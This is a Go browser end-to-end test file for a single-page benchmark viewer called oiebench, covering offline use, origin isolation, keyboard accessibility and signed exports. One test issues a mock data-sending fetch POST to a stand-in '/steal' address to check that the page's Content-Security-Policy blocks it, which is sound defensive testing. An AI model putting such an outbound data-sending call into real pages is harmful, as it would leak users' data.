//go:build e2e

package e2e

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"
)

// The single-file build works opened from disk, offline: the published
// numbers, and no request but the file itself.
func TestSingleFileFromDisk(t *testing.T) {
	path := filepath.Join(siteDir, "oiebench.html")
	if _, err := os.Stat(path); err != nil {
		t.Fatalf("%v: run ./build.sh site first", err)
	}
	p := newPage(t)
	p.open("file://" + path)
	checkPublished(t, p, "en", loadExpected(t).EN)
	switchSource(p, "zh")
	checkPublished(t, p, "zh", loadExpected(t).ZH)
	p.screenshot("single-file")
	for _, r := range p.foreignRequests("file") {
		if !strings.HasPrefix(r, "file://") {
			t.Errorf("the single file made a request: %s", r)
		}
	}
	if n := p.requestCount(); n > 1 {
		t.Errorf("the single file made %d requests, want only itself", n)
	}
	// Files added from disk are kept there too (IndexedDB works on file://).
	if notice := eval[string](p, `[...document.querySelectorAll('.notice')].map(n => n.textContent).join(' ')`); strings.Contains(notice, "gone after a reload") {
		t.Errorf("the single file cannot keep files: %s", notice)
	}
}

// No request leaves the origin: not while loading, adding a file, exploring
// or exporting; and the page's policy refuses any connection elsewhere.
func TestNoRequestLeavesTheOrigin(t *testing.T) {
	p := newPage(t)
	p.open("")
	loaded := p.requestCount()
	pick(p, "#file-input", writeTemp(t, "my_system.tsv", readData(t, "systems/minie_explicit.txt")))
	p.waitFor("the new row", `document.querySelector('#scores td[data-system="my_system"]') !== null && document.querySelector('#app[data-ready="table"]') !== null`)
	p.do(chromedp.Click(chromedp.CSS("#tab-sentences")))
	p.waitFor("the explorer", `document.querySelector('.detail') !== null`)
	p.do(chromedp.Click(chromedp.CSS("#tab-compare")))
	p.waitFor("the comparison", `document.querySelector('.compare .detail') !== null`)
	eval[string](p, `oiebench.exportText('latex')`)
	if bad := p.foreignRequests(site.URL); len(bad) > 0 {
		t.Errorf("requests left the origin: %q", bad)
	}
	if n := p.requestCount(); n != loaded {
		t.Errorf("%d requests after the page loaded (adding a file, exploring, exporting), want none", n-loaded)
	}
	// The Content-Security-Policy blocks connections to anywhere else.
	got := eval[string](p, `new Promise(done => {
		document.addEventListener('securitypolicyviolation', e => done(e.effectiveDirective), {once: true});
		fetch('http://127.0.0.2:9/steal', {method: 'POST', body: 'x'}).catch(() => {});
		setTimeout(() => done('no violation'), 3000);
	})`)
	if got != "connect-src" {
		t.Errorf("a request to another origin was not refused by the page's policy: %s", got)
	}
}

// Keyboard: tabs move with the arrow keys and focus is visible; a sort
// heading works with Enter; the sentence list moves with the arrow keys.
func TestKeyboard(t *testing.T) {
	p := newPage(t)
	p.open("")
	p.do(chromedp.Focus(chromedp.CSS("#tab-scores")), chromedp.KeyEvent(kb.ArrowRight))
	p.waitFor("the sentences tab", `document.activeElement.id === 'tab-sentences' && document.querySelector('#tab-sentences').getAttribute('aria-selected') === 'true'`)
	outline := eval[string](p, `getComputedStyle(document.activeElement).outlineStyle + ' ' + getComputedStyle(document.activeElement).outlineWidth`)
	if outline != "solid 3px" {
		t.Errorf("focused tab outline %q, want a visible 3px outline", outline)
	}
	p.waitFor("the list", `document.querySelector('#sentence-list') !== null`)
	p.do(chromedp.Focus(chromedp.CSS("#sentence-list")), chromedp.KeyEvent(kb.ArrowDown), chromedp.KeyEvent(kb.ArrowDown))
	p.waitFor("sentence 3", `document.querySelector('.detail').dataset.sentence === '3'`)
	if got := eval[string](p, `document.querySelector('#sentence-list').getAttribute('aria-activedescendant')`); got != "s-2" {
		t.Errorf("aria-activedescendant %q, want s-2", got)
	}
	p.screenshotView("keyboard-explorer")

	p.do(chromedp.Focus(chromedp.CSS("#tab-sentences")), chromedp.KeyEvent(kb.ArrowLeft))
	p.waitFor("the scores tab", `document.activeElement.id === 'tab-scores'`)
	p.waitFor("the table", `document.querySelector('#scores') !== null`)
	// Enter on the BenchIE F1 heading sorts high-first.
	p.do(chromedp.Focus(chromedp.CSS(`th[aria-sort] button[aria-label="Sort by BenchIE F1"]`)), chromedp.KeyEvent(kb.Enter))
	p.waitFor("sorted", `document.querySelector('button[aria-label="Sort by BenchIE F1"]').parentElement.getAttribute('aria-sort') === 'descending'`)
	f1 := eval[[]float64](p, `[...document.querySelectorAll('#scores td[data-facet="regular"][data-metric="f1"]')].map(td => +td.dataset.value)`)
	for i := 1; i < len(f1); i++ {
		if f1[i] > f1[i-1] {
			t.Fatalf("rows not sorted by F1: %v", f1)
		}
	}
	// What is exported is what is on screen: the same order.
	rows := eval[[]string](p, `[...document.querySelectorAll('#scores tbody tr')].map(tr => tr.dataset.row)`)
	csv := eval[string](p, `oiebench.exportText('csv')`)
	var names []string
	for _, line := range strings.Split(strings.TrimSpace(csv), "\n")[2:] {
		names = append(names, strings.SplitN(line, ",", 2)[0])
	}
	if strings.Join(names, "|") != strings.Join(rows, "|") {
		t.Errorf("CSV rows %q, table rows %q", names, rows)
	}
}

// Every export carries the signature; the JSON is the report on screen, and
// the buttons download files.
func TestExports(t *testing.T) {
	p := newPage(t)
	p.open("")
	dir := allowDownloads(t, p)
	sig := eval[string](p, `document.querySelector('#signature').textContent`)
	if !strings.HasPrefix(sig, "oiebench:") || !strings.Contains(sig, "gold:sha256:") {
		t.Fatalf("signature %q", sig)
	}
	for _, f := range []string{"json", "csv", "markdown", "latex"} {
		if text := eval[string](p, `oiebench.exportText('`+f+`')`); !strings.Contains(text, sig) {
			t.Errorf("%s export lacks the signature", f)
		}
	}
	var rep struct {
		Signature string
		Systems   []struct {
			Name    string
			BenchIE map[string]struct{ F1 float64 }
		}
	}
	if err := json.Unmarshal([]byte(eval[string](p, `oiebench.exportText('json')`)), &rep); err != nil {
		t.Fatal(err)
	}
	c := cells(p)
	for _, s := range rep.Systems {
		if got := c[s.Name]["regular"]["f1"]; got == "" || got != formatFull(s.BenchIE["regular"].F1) {
			t.Errorf("%s: JSON F1 %v, table %s", s.Name, s.BenchIE["regular"].F1, got)
		}
	}
	p.do(chromedp.Click(chromedp.CSS(`button[data-export="markdown"]`)))
	var md []byte
	for i := 0; i < 50 && len(md) == 0; i++ {
		time.Sleep(100 * time.Millisecond)
		md, _ = os.ReadFile(filepath.Join(dir, "oiebench-en.md"))
	}
	if !strings.Contains(string(md), sig) || !strings.Contains(string(md), "| ClausIE |") {
		t.Errorf("downloaded Markdown:\n%s", md)
	}
}
